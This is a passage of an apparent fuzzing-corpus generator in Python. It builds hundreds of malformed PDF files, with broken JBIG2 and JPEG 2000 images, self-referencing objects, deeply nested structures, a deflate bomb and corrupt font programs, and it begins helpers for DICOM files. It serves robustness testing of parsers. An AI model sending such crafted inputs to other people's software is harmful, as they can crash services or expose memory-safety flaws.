    shape("pdf-jbig2-page-of-2-giga", jbig2(jbig2_page(0x7FFFFFF9, 0x10), first))

    def generic(kind, flags, width, height, data, more=b""):
        return jbig2_segment(3, kind, be32(width, height, 0, 0) + u8(0) + u8(flags) + more + data)

    shape("pdf-jbig2-generic", jbig2(jbig2_page(), generic(38, 0, 64, 64, bytes(64), u8(3, 255, 253, 255, 2, 254, 254, 254))))
    shape("pdf-jbig2-generic-far-pixels", jbig2(jbig2_page(), generic(38, 0, 64, 64, bytes(range(256)), u8(127, 127, 128, 128, 127, 128, 128, 127))))
    shape("pdf-jbig2-generic-mmr-huge", jbig2(jbig2_page(), generic(38, 1, 30000, 30000, bytes(999))))
    shape("pdf-jbig2-generic-huge", jbig2(jbig2_page(), generic(38, 0, 60000, 60000, bytes(99), u8(3, 255, 253, 255, 2, 254, 254, 254))))
    shape("pdf-jbig2-refinement-of-nothing", jbig2(jbig2_page(), generic(42, 0, 64, 64, bytes(99), u8(255, 255, 255, 255))))
    halftone = be32(0xFFFF, 0xFFFF, 0x80000000, 0x80000000) + be16(0xFFFF, 0xFFFF)
    patterns = jbig2_segment(1, 16, u8(0, 255, 255) + be32(0xFFFFFF) + bytes(99))
    shape("pdf-jbig2-patterns-of-giga", jbig2(jbig2_page(), patterns))
    patterns = jbig2_segment(1, 16, u8(0, 4, 4) + be32(3) + bytes(99))
    region = jbig2_segment(2, 22, be32(64, 64, 0, 0) + u8(0, 0) + halftone + bytes(99), [1])
    shape("pdf-jbig2-halftone-of-giga", jbig2(jbig2_page(), patterns, region))
    table = jbig2_segment(1, 53, u8(0x7E) + be32(0x80000000, 0x7FFFFFFF) + bytes(999))
    shape("pdf-jbig2-table-of-4-giga", jbig2(jbig2_page(), table))
    shape("pdf-jbig2-segment-beyond", jbig2(jbig2_page(), jbig2_segment(1, 0, bytes(9), length=0xFFFFFFF0)))
    shape("pdf-jbig2-refers-to-500-million", jbig2(jbig2_page(), be32(1) + u8(6) + be32(0xFFFFFFF0) + bytes(99)))
    shape("pdf-jbig2-global-is-itself", picture(jbig2_page(), bits=1, words=b"/Filter /JBIG2Decode /DecodeParms << /JBIG2Globals 5 0 R >>"))
    # JPEG 2000 and JPEG.
    shape("pdf-jpx", picture(j2k(), words=b"/Filter /JPXDecode"))
    shape("pdf-jpx-larger", picture(j2k(1000, 1000), words=b"/Filter /JPXDecode"))
    shape("pdf-jpx-smaller", picture(j2k(8, 8), words=b"/Filter /JPXDecode"))
    shape("pdf-jpx-of-4-giga", picture(j2k(0xFFFFFFFF, 0xFFFFFFFF), words=b"/Filter /JPXDecode"))
    shape("pdf-jpx-huge", picture(j2k(3500, 3500), words=b"/Filter /JPXDecode"))
    shape("pdf-jpx-million-tiles", picture(j2k(4000, 4000, tiles=(1, 1)), words=b"/Filter /JPXDecode"))
    shape("pdf-jpx-tile-beyond", picture(j2k(tile=65535), words=b"/Filter /JPXDecode"))
    shape("pdf-jpx-tiles-of-none", picture(j2k(tiles=(0, 0)), words=b"/Filter /JPXDecode"))
    shape("pdf-jpx-16384-components", picture(j2k(other_components=16384), words=b"/Filter /JPXDecode"))
    shape("pdf-jpx-more-components", picture(j2k(components=5), colours=b"/DeviceRGB", words=b"/Filter /JPXDecode"))
    shape("pdf-jpx-fewer-components", picture(j2k(), colours=b"/DeviceCMYK", words=b"/Filter /JPXDecode"))
    shape("pdf-jpx-32-levels", picture(j2k(levels=32), words=b"/Filter /JPXDecode"))
    shape("pdf-jpx-200-levels", picture(j2k(levels=200), words=b"/Filter /JPXDecode"))
    shape("pdf-jpx-65535-layers", picture(j2k(layers=65535), words=b"/Filter /JPXDecode"))
    shape("pdf-jpx-38-bits", picture(j2k(bits=37), words=b"/Filter /JPXDecode"))
    shape("pdf-jpx-sampled-0", picture(j2k(sampling=0), words=b"/Filter /JPXDecode"))
    shape("pdf-jpx-sampled-255", picture(j2k(sampling=255), words=b"/Filter /JPXDecode"))
    shape("pdf-jpx-noise", picture(j2k(body=bytes(range(255)) * 20), words=b"/Filter /JPXDecode"))
    shape("pdf-jpeg-of-another-size", picture(jpeg(4000, 4000, 3), 8, 8, b"/Filter /DCTDecode", b"/DeviceRGB"))
    shape("pdf-jpeg-of-fewer-components", picture(jpeg(64, 64, 1), 64, 64, b"/Filter /DCTDecode", b"/DeviceCMYK"))
    shape("pdf-jpeg-in-jpeg", picture(jpeg(64, 64, 1), 64, 64, b"/Filter [/DCTDecode /DCTDecode]"))
    # Pictures.
    for name, colours in [
        ("indexed-by-4-giga", b"[/Indexed /DeviceRGB 4294967295 (abc)]"), ("indexed-below-0", b"[/Indexed /DeviceRGB -1 (abc)]"),
        ("indexed-by-itself", b"6 0 R"), ("indexed-too-short", b"[/Indexed /DeviceCMYK 255 (abc)]"),
        ("deep", b"[/Indexed " * 500 + b"/DeviceRGB" + b" 1 (a)]" * 500), ("icc-of-999", b"[/ICCBased 7 0 R]"),
        ("lab", b"[/Lab << /WhitePoint [0 0 0] /Range [1e300 -1e300 0 0] >>]"), ("calibrated", b"[/CalGray << /Gamma -1e308 /WhitePoint [0 0 0] >>]"),
        ("separation-of-itself", b"[/Separation /A 8 0 R 8 0 R]"), ("devicen-of-40", b"[/DeviceN [" + b"/A " * 40 + b"] /DeviceRGB 8 0 R]"),
    ]:
        more = [b"[/Indexed 6 0 R 255 6 0 R]", stream(icc(offset=0xFFFFFFF0), b"/N 999 /Alternate 6 0 R"), b"[/Separation /B 8 0 R 8 0 R]"]
        shape(f"pdf-colours-{name}", picture(bytes(4096), 64, 64, b"", colours, 8, *more))
    shape("pdf-picture-of-0-bits", picture(bytes(4096), bits=0))
    shape("pdf-picture-of-2-giga-bits", picture(bytes(4096), bits=2147483647))
    shape("pdf-picture-below-0", picture(bytes(4096), -64, -64))
    shape("pdf-picture-of-2-giga", picture(bytes(4096), 2147483647, 2147483647, bits=1))
    shape("pdf-picture-half-a-giga-wide", picture(bytes(4096), 536870913, 1, bits=8))
    shape("pdf-picture-masks-itself", picture(bytes(4096), words=b"/SMask 5 0 R /Mask 5 0 R"))
    shape("pdf-picture-mask-huge", picture(bytes(4096), 64, 64, b"/SMask 6 0 R", b"/DeviceGray", 8, stream(
        bytes(99), b"/Type /XObject /Subtype /Image /Width 4000 /Height 4000 /BitsPerComponent 8 /ColorSpace /DeviceGray")))
    shape("pdf-picture-decoded-by-much", picture(bytes(4096), words=b"/Decode [" + b"1e38 -1e38 " * 5000 + b"]"))
    shape("pdf-picture-inline-huge", page(b"BI /W 20000 /H 20000 /BPC 16 /CS /CMYK ID abc EI"))
    shape("pdf-matrix-of-giga", page(b"1e30 1e30 1e30 1e30 1e30 1e30 cm 0 0 1 1 re f 1e-30 0 0 1e-30 0 0 cm 0 0 1 1 re S"))
    shape("pdf-dashes-of-nothing", page(b"[1e-9 1e-9] 0 d 100 w 0 0 m 1e9 1e9 l S"))
    shape("pdf-dashes-below-0", page(b"[-1 -1 0] -1e9 d 0 0 m 200 200 l S"))
    shape("pdf-path-of-many", page(b"0 0 m " + b"100 200 l 9 3 l 1 1 2 2 3 3 c " * 1500 + b"S"))
    shape("pdf-lines-a-giga-wide", page(b"1e9 w 1 J 1 j 0 0 m 200 200 l 0 200 l S"))
    # Objects.
    inside = b"7 0 8 30 << /Type /Catalog >> << /Type /Pages /Count 0 /Kids [] >>"
    own = b"5 0 obj\n" + stream(inside, b"/Type /ObjStm /N 2 /First 9 /Extends 5 0 R") + b"\nendobj\n"
    rows = [(0, 0, 0), (2, 5, 0), (2, 5, 1), (2, 4, 0), (2, 4, 0), (1, 9, 0), (2, 6, 0), (2, 5, 0), (2, 5, 1), (1, 9 + len(own), 0)]
    shape("pdf-object-stream-that-extends-itself", xref_stream(rows, objects=own))
    shape("pdf-object-stream-within-itself", xref_stream([(2, 5, 0)] * 10))
    many = b"5 0 obj\n" + stream(b"1 0 ", b"/Type /ObjStm /N 2147483647 /First 2147483647") + b"\nendobj\n"
    shape("pdf-object-stream-of-2-giga", xref_stream(rows, objects=many))
    shape("pdf-xref-stream-before-itself", xref_stream(rows, b"/Prev 9", objects=b""))
    shape("pdf-xref-stream-of-2-giga", xref_stream(rows, b"/Index [0 2147483647]", size=2147483647))
    shape("pdf-xref-stream-below-0", xref_stream(rows, b"/Index [-1 -1 2147483647 5]", b"[1 -2 1]"))
    shape("pdf-xref-stream-of-wide-entries", xref_stream(rows, b"", b"[9 2147483647 9]"))
    packed = xref_stream(rows, b"/Filter /FlateDecode", size=200000000, encoded=deflated_zeros(900))
    shape("pdf-xref-stream-bomb", packed)
    whole = page(b"0 0 100 100 re f")
    place = whole.rindex(b"xref\n0")
    shape("pdf-xref-table-before-itself", whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d /XRefStm %d" % (place, place)))
    shape("pdf-xref-table-of-2-giga", whole.replace(b"xref\n0 5", b"xref\n0 2147483647"))
    shape("pdf-xref-table-below-0", whole.replace(b"xref\n0 5", b"xref\n-9 5"))
    shape("pdf-objects-all-at-0", whole.replace(b" 00000 n ", b" 65535 f "))
    shape("pdf-without-table", whole[:place])
    shape("pdf-objects-of-many", b"%PDF-1.4\n" + b"".join(b"%d 0 obj\n<<>>\nendobj\n" % n for n in range(50000)))
    shape("pdf-object-number-of-2-giga", b"%PDF-1.4\n2147483647 0 obj\n<< /Type /Catalog /Pages 2147483646 0 R >>\nendobj\ntrailer << /Root 2147483647 0 R >>")
    shape("pdf-dictionaries-100000-deep", page(b"", b"/Properties " + b"<< /A " * 100000))
    shape("pdf-content-arrays-100000-deep", page(b"[" * 100000 + b" TJ"))
    shape("pdf-references-in-a-loop", document([b"2 0 R", b"3 0 R", b"1 0 R"]))
    chain = [b"<< /Type /Catalog /Pages 2 0 R >>", b"3 0 R"] + [b"%d 0 R" % (n + 4) for n in range(5000)]
    shape("pdf-references-5000-deep", document(chain + [b"<< /Type /Pages /Count 0 /Kids [] >>"]))
    for number, words in enumerate([
        b"/V 1 /R 2", b"/V 2 /R 3 /Length -128", b"/V 2 /R 3 /Length 2147483647", b"/V 4 /R 4 /CF << /StdCF << /CFM /AESV2 /Length 99 >> >> /StmF /StdCF",
        b"/V 5 /R 6 /Length 256 /OE (x) /UE (x) /Perms (x) /CF << /StdCF << /CFM /AESV3 >> >> /StmF /StdCF /StrF /StdCF",
        b"/V 5 /R 5 /OE 6 0 R /UE 6 0 R", b"/V 99 /R 99", b"/V 0 /R 0 /Length 0",
    ]):
        shape(f"pdf-locked-by-broken-keys-{number}", hidden_document(words))
    shape("pdf-locked-by-long-keys", hidden_document(b"/V 5 /R 6 /Length 256", b"(%s)" % (b"y" * 100000)))
    # Fonts.
    outline = u8(139, 139, 21, 239, 6, 14)
    shape("pdf-cff", embedded(cff([outline] * 4)))
    again = u8(32, 10, 14)
    shape("pdf-cff-subroutine-of-itself", embedded(cff([again] * 4, local=[again])))
    shape("pdf-cff-global-of-itself", embedded(cff([u8(32, 29, 14)] * 4, common=[u8(32, 29, 14)])))
    shape("pdf-cff-subroutine-beyond", embedded(cff([u8(28, 0x7F, 0xFF, 10, 14)] * 4, local=[outline])))
    shape("pdf-cff-stack-beyond", embedded(cff([u8(139) * 60000 + u8(5, 14)] * 4)))
    shape("pdf-cff-stack-below", embedded(cff([u8(12, 18, 12, 10, 12, 12, 5, 8, 14)] * 4)))
    shape("pdf-cff-hints-of-many", embedded(cff([u8(140) * 40 + u8(1) + u8(140) * 40 + u8(23) + u8(19) * 9 + u8(14)] * 4)))
    shape("pdf-cff-index-beyond", embedded(cff([u8(239, 28, 0x80, 0, 12, 30, 14)] * 4)))
    shape("pdf-cff-accents-of-itself", embedded(cff([u8(139, 139, 139, 139, 14)] * 4)))
    shape("pdf-cff-charstrings-beyond", embedded(cff([outline], charstrings=0x7FFFFFFF)))
    shape("pdf-cff-doubling", embedded(cff([u8(32, 10, 14)] + [u8(32, 10, 14)] * 3, local=[u8(33 + n, 10, 33 + n, 10, 11) for n in range(60)])))
    bytes_of_font = cff([outline] * 4)
    shape("pdf-cff-index-of-9-bytes", embedded(bytes_of_font[:6] + u8(9) + bytes_of_font[7:]))
    shape("pdf-cff-count-of-65535", embedded(bytes_of_font[:4] + b"\xff\xff" + bytes_of_font[6:]))
    shape("pdf-cff-cut", embedded(bytes_of_font[:60]))
    shape("pdf-truetype", truetype(sfnt()))
    composite = be16(-1, 0, 0, 0, 0)
    shape("pdf-truetype-glyph-of-itself", truetype(sfnt(glyf=composite + be16(0x20, 1, 0) + be16(0, 1, 0), loca=be32(0, 0, 22))))
    shape("pdf-truetype-glyph-of-many", truetype(sfnt(glyf=composite + be16(0x20, 1, 0) * 5000, loca=be32(0, 0, 30010))))
    shape("pdf-truetype-points-beyond", truetype(sfnt(glyf=be16(2, 0, 0, 500, 500, 65535, 1, 65535) + bytes(99), loca=be32(0, 0, 115))))
    shape("pdf-truetype-contours-of-32767", truetype(sfnt(glyf=be16(32767, 0, 0, 500, 500, 2), loca=be32(0, 0, 12))))
    shape("pdf-truetype-places-backwards", truetype(sfnt(loca=be32(0xFFFFFFFF, 0x80000000, 0))))
    shape("pdf-truetype-65535-glyphs", truetype(sfnt(maxp=be32(0x10000) + be16(*[65535] * 14))))
    loop = u8(0xB0, 0, 0xB8) + be16(-4) + u8(0x1C)
    outline = be16(1, 0, 0, 500, 500, 2, len(loop)) + loop + u8(1, 1, 1) + be16(0, 500, 0) + be16(0, 0, 500)
    shape("pdf-truetype-program-without-end", truetype(sfnt(fpgm=u8(0xB8) + be16(-3) + u8(0x1C), prep=u8(0xB8) + be16(-3) + u8(0x1C), glyf=outline, loca=be32(0, 0, len(outline)))))
    shape("pdf-truetype-function-of-itself", truetype(sfnt(fpgm=u8(0xB0, 0, 0x2C, 0xB0, 0, 0x2B, 0x2D, 0xB0, 0, 0x2B))))
    shape("pdf-truetype-storage-beyond", truetype(sfnt(prep=u8(0xB8) + be16(32767) + u8(0xB0, 9, 0x42, 0xB8) + be16(-1) + u8(0x43), cvt_=bytes(8))))
    shape("pdf-truetype-map-beyond", truetype(sfnt(cmap=be16(0, 1, 3, 1) + be32(0xFFFFFFF0))))
    segments = be16(4, 32, 0, 0xFFFE, 0, 0, 0, 0xFFFF, 0, 0, 0, 0xFFFF, 0xFFFF)
    shape("pdf-truetype-map-of-segments-beyond", truetype(sfnt(cmap=be16(0, 1, 3, 1) + be32(12) + segments)))
    groups = be16(12, 0) + be32(28, 0, 0x10000000, 0, 0xFFFFFFFF, 0)
    shape("pdf-truetype-map-of-groups-beyond", truetype(sfnt(cmap=be16(0, 1, 3, 10) + be32(12) + groups)))
    shape("pdf-truetype-without-head", truetype(sfnt(head=None)))
    shape("pdf-truetype-65535-tables", truetype(be32(0x10000) + be16(65535, 0, 0, 0) + b"glyf" + be32(0, 0xFFFFFFFF, 0xFFFFFFFF) * 30))
    shape("pdf-truetype-collection-of-itself", truetype(b"ttcf" + be32(0x10000, 0xFFFFFFFF) + be32(0) * 50))
    shape("pdf-opentype-of-broken-cff", embedded(b"OTTO" + sfnt(CFF_=cff([again] * 4, local=[again]))[4:], words=b"/Subtype /OpenType"))
    drawn = u8(139, 239, 13, 239, 6, 9, 14)
    shape("pdf-type1", type1(drawn))
    shape("pdf-type1-subroutine-of-itself", type1(u8(139, 10, 14), [u8(139, 10, 11)]))
    shape("pdf-type1-subroutine-beyond", type1(u8(255) + be32(0x7FFFFFFF) + u8(10, 14), [u8(11)]))
    shape("pdf-type1-subroutine-below-0", type1(u8(255) + be32(-5) + u8(10, 14), [u8(11)]))
    shape("pdf-type1-accents-of-itself", type1(u8(139, 239, 13, 139, 139, 139, 204, 204, 12, 6, 14)))
    shape("pdf-type1-divided-by-0", type1(u8(139, 239, 13, 140, 139, 12, 12, 6, 14)))
    shape("pdf-type1-flex-without-end", type1(u8(139, 239, 13) + u8(139, 140, 12, 16) * 20 + u8(139, 21) * 50 + u8(14), [u8(11)] * 4))
    shape("pdf-type1-stack-beyond", type1(u8(139) * 50000 + u8(14)))
    shape("pdf-type1-masters-of-many", type1(drawn, before=b"/BlendDesignPositions [" + b"[1 2 3 4 5 6 7 8 9]" * 50 + b"] def /WeightVector [" + b"1 " * 99 + b"] def"))
    shape("pdf-type1-blues-of-many", type1(drawn, private=b"/BlueValues [" + b"99999999999 " * 5000 + b"] def /lenIV -1 def"))
    shape("pdf-type1-encoding-of-a-million", type1(drawn, before=b"/Encoding 1000000 array def dup 999999 /A put"))
    shape("pdf-type1-cut", embedded(b"%!PS-AdobeFont-1.0: A\n/FontMatrix [0 0 0 0 0 0] def\ncurrentfile eexec\nx", b"Type1", b"/FontFile 7 0 R", b""))
    widths = b"/W [" + b"0 2147483647 1000 -5 99999999 1 " * 2000 + b"] /DW -2147483648"
    cid = b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Hostile /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> " \
        b"/FontDescriptor 6 0 R %s >>" % widths
    shape("pdf-cid-widths-of-2-giga", embedded(sfnt(), b"Type0", b"/FontFile2 7 0 R", b"", b"/Encoding /Identity-H /DescendantFonts [%s]" % cid))
    shape("pdf-cid-of-itself", embedded(sfnt(), b"Type0", b"/FontFile2 7 0 R", b"", b"/Encoding /Identity-H /DescendantFonts [5 0 R]"))
    map_of_itself = b"/Encoding 5 0 R /DescendantFonts [%s] /ToUnicode 5 0 R" % cid
    shape("pdf-cid-map-of-itself", embedded(sfnt(), b"Type0", b"/FontFile2 7 0 R", b"", map_of_itself))

    def to_unicode(content, text=b"BT /F1 9 Tf 9 9 Td (ABC) Tj ET"):
        return page(text, b"/Font << /F1 5 0 R >>", helvetica % b"/ToUnicode 6 0 R", stream(content))

    shape("pdf-unicode-range-of-4-giga", to_unicode(b"begincodespacerange <00> <ff> endcodespacerange 1 beginbfrange <00000000> <ffffffff> <0000> endbfrange"))
    shape("pdf-unicode-ranges-of-many", to_unicode(b"beginbfrange " + b"<0000> <ffff> <0041> " * 20000 + b"endbfrange"))
    shape("pdf-unicode-sign-of-much", to_unicode(b"beginbfchar <41> <" + b"0041" * 100000 + b"> endbfchar", b"BT /F1 9 Tf 9 9 Td (" + b"A" * 2000 + b") Tj ET"))
    shape("pdf-unicode-backwards", to_unicode(b"beginbfrange <ff> <00> <0041> <-1> <-1> [<d800> <dfff>] endbfrange"))
    shape("pdf-unicode-uses-itself", to_unicode(b"/Identity-H usecmap 6 0 R usecmap"))
    glyph = b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 65 /LastChar 65 /Widths [1] " \
        b"/Encoding << /Differences [65 /A] >> /CharProcs << /A 6 0 R >> /Resources << /Font << /F1 5 0 R >> >> >>"
    text = b"BT /F1 9 Tf (AAAAAAAAAA) Tj ET"
    shape("pdf-type3-of-itself", page(text, b"/Font << /F1 5 0 R >>", glyph, stream(b"1 0 d0 " + text)))
    shape("pdf-type3-matrix-of-nothing", page(text, b"/Font << /F1 5 0 R >>", glyph.replace(b"[1 0 0 1 0 0]", b"[0 0 0 0 0 0]"), stream(b"1 0 0 0 1e9 1e9 d1 0 0 1 1 re f")))
    shape("pdf-letters-of-giga", page(b"BT /F1 1e9 Tf 2 Tr 1e6 w (Word) Tj 7 Tr (Word) Tj ET 0 0 200 200 re f", b"/Font << /F1 5 0 R >>", helvetica % b""))
    shape("pdf-font-of-itself", page(b"BT /F1 9 Tf (A) Tj ET", b"/Font 5 0 R", b"<< /F1 5 0 R /Type /Font /Subtype /Type0 /DescendantFonts [5 0 R] /Encoding 5 0 R >>"))
    # Shadings, patterns and functions.
    line = b"/ShadingType 2 /ColorSpace /DeviceRGB /Coords %s /Function << /FunctionType 2 /Domain [0 1] /C0 [0 0 0] /C1 [1 1 1] /N %s >> /Extend [true true]"
    shape("pdf-shading", shading(line % (b"[0 0 200 200]", b"1")))
    shape("pdf-shading-of-giga", shading(line % (b"[-1e30 -1e30 1e30 1e30]", b"1e9")))
    shape("pdf-shading-of-no-length", shading(line % (b"[5 5 5 5]", b"-1e9")))
    circle = line.replace(b"/ShadingType 2", b"/ShadingType 3")
    shape("pdf-circles-of-giga", shading(circle % (b"[0 0 1e9 100 100 -1e9]", b"1")))
    shape("pdf-circles-of-nothing", shading(circle % (b"[0 0 0 1e-30 0 0]", b"1")))
    by_function = b"/ShadingType 1 /ColorSpace /DeviceRGB /Domain [-1e9 1e9 -1e9 1e9] /Matrix [1e-9 0 0 1e-9 0 0] /Function 6 0 R"
    shape("pdf-shading-by-function", shading(by_function, stream(b"{ mul dup dup 1000 mul sin exch }", b"/FunctionType 4 /Domain [-1e9 1e9 -1e9 1e9] /Range [0 1 0 1 0 1]")))
    mesh = b"/ShadingType %d /ColorSpace /DeviceRGB /BitsPerCoordinate %d /BitsPerComponent %d /BitsPerFlag 8 /VerticesPerRow %d /Decode [-1e9 1e9 -1e9 1e9 0 1 0 1 0 1]"
    noise = bytes(place * 131 % 256 for place in range(20000))
    for kind in range(4, 8):
        shape(f"pdf-mesh-{kind}", shading(mesh % (kind, 16, 8, 5), data=noise))
        shape(f"pdf-mesh-{kind}-of-no-bits", shading(mesh % (kind, 0, 0, 0), data=noise))
        shape(f"pdf-mesh-{kind}-of-flags-0", shading(mesh % (kind, 32, 16, 2147483647), data=bytes(200000)))
    shape("pdf-tiles-of-tiny-steps", pattern(b"/BBox [0 0 1 1] /XStep 1e-9 /YStep 1e-9"))
    shape("pdf-tiles-of-small-steps", pattern(b"/BBox [0 0 1 1] /XStep 0.01 /YStep 0.01"))
    shape("pdf-tiles-of-no-steps", pattern(b"/BBox [0 0 1 1] /XStep 0 /YStep 0"))
    shape("pdf-tiles-of-giga", pattern(b"/BBox [-1e9 -1e9 1e9 1e9] /XStep 2e9 /YStep 2e9"))
    shape("pdf-tiles-made-small", pattern(b"/BBox [0 0 1 1] /XStep 1 /YStep 1", matrix=b"/Matrix [1e-9 0 0 1e-9 0 0]"))
    shape("pdf-tiles-of-themselves", pattern(b"/BBox [0 0 9 9] /XStep 9 /YStep 9", b"/Pattern cs /P1 scn 0 0 9 9 re f", b"/Pattern << /P1 5 0 R >>"))
    shape("pdf-function", calculated(b"{ dup dup }"))
    shape("pdf-function-deep", calculated(b"{" * 50000 + b"}" * 50000))
    shape("pdf-function-of-copies", calculated(b"{ " + b"dup " * 90 + b"90 copy 90 1000000000 roll 2147483647 copy -5 copy -2147483648 index }"))
    shape("pdf-function-that-divides", calculated(b"{ 0 div 0 idiv 0 mod ln log sqrt -2147483648 -1 idiv 1 2147483647 bitshift 1e300 cvi }"))
    shape("pdf-function-of-conditions", calculated(b"{ " + b"dup 0.5 gt { dup } { dup } ifelse pop " * 5000 + b"dup dup }"))
    sampled = b"<< /FunctionType 0 /Domain [%s] /Range [0 1 0 1 0 1] /Size [%s] /BitsPerSample %d /Length 3 >>\nstream\nabc\nendstream"
    axial = b"/ShadingType 2 /ColorSpace /DeviceRGB /Coords [0 0 200 200] /Function 6 0 R"
    shape("pdf-samples-of-2-giga", shading(axial, sampled % (b"0 1", b"2147483647", 32)))
    shape("pdf-samples-of-32-dimensions", shading(axial, sampled % (b"0 1 " * 32, b"100 " * 32, 32)))
    shape("pdf-samples-below-0", shading(axial, sampled % (b"0 1", b"-5", -8)))
    shape("pdf-stitched-of-itself", shading(axial, b"<< /FunctionType 3 /Domain [0 1] /Functions [6 0 R 6 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>"))
    shape("pdf-stitched-of-many", shading(axial, b"<< /FunctionType 3 /Domain [0 1] /Functions [" + b"<< /FunctionType 2 /Domain [0 1] /N 1 /C0 [0 0 0] >> " * 5000 + b"] /Bounds [] /Encode [] >>"))
    # What lies around the pages.
    outline_items = [b"<< /Title (%d) /Parent %d 0 R /First %d 0 R /Last %d 0 R /Count 1 >>" % (n, n - 1, n + 1, n + 1) for n in range(5, 20005)]
    shape("pdf-outline-20000-deep", page(b"", b"", *outline_items, catalog=b"/Outlines 5 0 R"))
    shape("pdf-outline-in-a-loop", page(b"", b"", b"<< /First 5 0 R /Last 5 0 R /Next 5 0 R /Prev 5 0 R /Title (x) >>", catalog=b"/Outlines 5 0 R"))
    group = b"<< /Type /OCMD /OCGs [6 0 R 6 0 R] /VE 7 0 R >>"
    deep = b"[/And " * 20000 + b"6 0 R" + b"]" * 20000
    said = b"/OCProperties << /OCGs [6 0 R] /D << /Order 8 0 R /ON [6 0 R] >> >>"
    for name, expression in [("in-a-loop", b"[/Not 7 0 R]"), ("deep", deep)]:
        shape(f"pdf-optional-content-{name}", page(
            b"/OC /O1 BDC 0 0 100 100 re f EMC", b"/Properties << /O1 5 0 R >>", group, b"<< /Type /OCG /Name (x) >>", expression, b"[6 0 R 8 0 R]", catalog=said))
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Group << /S /Transparency /CS 5 0 R >> /Resources << /XObject << /X1 5 0 R >> /ExtGState << /G1 6 0 R >> >>"
    mask = b"<< /SMask << /S /Luminosity /G 5 0 R /TR 6 0 R /BC [1 2 3] >> /BM [/Multiply /No] /CA 1e30 >>"
    shape("pdf-mask-of-itself", page(b"/G1 gs 0 0 9 9 re f", b"/ExtGState << /G1 6 0 R >>", stream(b"/G1 gs 0 0 9 9 re f /X1 Do", form), mask))
    group = b"/Type /XObject /Subtype /Form /BBox [-1e9 -1e9 1e9 1e9] /Group << /S /Transparency /I true /K true >> /Resources << /XObject << /X1 %d 0 R >> >>"
    groups = [stream(b"/X1 Do", group % (n + 1)) for n in range(5, 2000)] + [stream(b"0 0 9 9 re f")]
    shape("pdf-groups-2000-deep", page(b"/X1 Do", b"/XObject << /X1 5 0 R >>", *groups))
    notes = b" ".join(b"<< /Type /Annot /Subtype /FreeText /Rect [0 0 1e9 1e9] /DA (/F 1e9 Tf) /Contents (x) /AP << /N 3 0 R >> >>" for _ in range(2000))
    shape("pdf-notes-of-many", page(b"", words=b"/Annots [%s]" % notes))
    shape("pdf-note-of-itself", page(b"", b"", b"<< /Type /Annot /Subtype /Popup /Parent 5 0 R /Popup 5 0 R /Rect [0 0 9 9] /AP << /N 5 0 R >> >>", words=b"/Annots [5 0 R 5 0 R]"))
    field = b"<< /FT /Tx /T (x) /Kids [5 0 R 5 0 R] /Parent 5 0 R /Rect [0 0 99 99] /Subtype /Widget >>"
    shape("pdf-field-of-itself", page(b"", b"", field, catalog=b"/AcroForm << /Fields [5 0 R] /NeedAppearances true >>", words=b"/Annots [5 0 R]"))
    shape("pdf-names-in-a-loop", page(b"", b"", b"<< /Kids [5 0 R 5 0 R] /Limits [(a) (z)] >>", catalog=b"/Names << /Dests 5 0 R /EmbeddedFiles 5 0 R /JavaScript 5 0 R >> /PageLabels 5 0 R"))
    shape("pdf-structure-in-a-loop", page(b"/P << /MCID 0 >> BDC EMC", b"", b"<< /Type /StructTreeRoot /K 5 0 R /ParentTree 5 0 R /RoleMap << /P /P >> >>", catalog=b"/StructTreeRoot 5 0 R"))
    for name, words in [
        ("of-nothing", b"[0 0 0 0]"), ("tiny", b"[0 0 0.%s1 0.%s1]" % (b"0" * 320, b"0" * 320)), ("huge", b"[0 0 %s %s]" % (b"9" * 300, b"9" * 300)),
        ("backwards", b"[200 200 0 0]"), ("flat", b"[0 0 200 0.0000001]"), ("of-itself", b"3 0 R"), ("too-short", b"[0 0]"),
    ]:
        shape(f"pdf-page-{name}", page(b"0 0 100 100 re f", box=words))
    shape("pdf-page-turned-2-giga", page(b"0 0 100 100 re f", words=b"/Rotate 2147483640 /UserUnit 1e30"))
    tree = document([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count -5 /Kids [3 0 R] >>", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"])
    shape("pdf-pages-below-0", tree)
    deep = [b"<< /Type /Catalog /Pages 2 0 R >>"] + [b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (n + 1) for n in range(2, 20000)]
    shape("pdf-pages-20000-deep", document(deep + [b"<< /Type /Page /MediaBox [0 0 9 9] >>"]))
    shape("pdf-begins-late", b"x" * 1000 + whole)
    shape("pdf-begins-again", whole * 200)


# ---- DICOM


def element(group, number, kind, value=b"", length=None):
    value = value + bytes(len(value) % 2)
    size = len(value) if length is None else length
    kind = kind.encode()
    if kind in (b"OB", b"OW", b"OF", b"OD", b"SQ", b"UN", b"UT", b"OL", b"OV"):
        return le16(group, number) + kind + le16(0) + le32(size) + value
    return le16(group, number) + kind + le16(size) + value


def item(content=b"", length=None):
    return le16(0xFFFE, 0xE000) + le32(len(content) if length is None else length) + content


item_end, sequence_end = le16(0xFFFE, 0xE00D) + le32(0), le16(0xFFFE, 0xE0DD) + le32(0)
undefined = 0xFFFFFFFF
explicit, deflated, rle = "1.2.840.10008.1.2.1", "1.2.840.10008.1.2.1.99", "1.2.840.10008.1.2.5"
jpeg_syntax, jls_syntax, j2k_syntax = "1.2.840.10008.1.2.4.50", "1.2.840.10008.1.2.4.80", "1.2.840.10008.1.2.4.90"


def beginning(syntax=explicit):
    meta = element(2, 1, "OB", b"\0\1") + element(2, 2, "UI", b"1.2.840.10008.5.1.4.1.1.7") + element(2, 3, "UI", b"1.2.3")
    meta += element(2, 0x10, "UI", syntax.encode())
    return bytes(128) + b"DICM" + element(2, 0, "UL", le32(len(meta))) + meta


def layout(rows=64, columns=64, samples=1, bits=8, colours=b"MONOCHROME2", stored=None, high=None, frames=None, signed=0, more=b"", before=b""):
    stored = bits if stored is None else stored
    high = stored - 1 if high is None else high
    result = element(8, 0x60, "CS", b"OT") + before + element(0x28, 2, "US", le16(samples)) + element(0x28, 4, "CS", colours)
    result += element(0x28, 8, "IS", b"%d" % frames) if frames is not None else b""
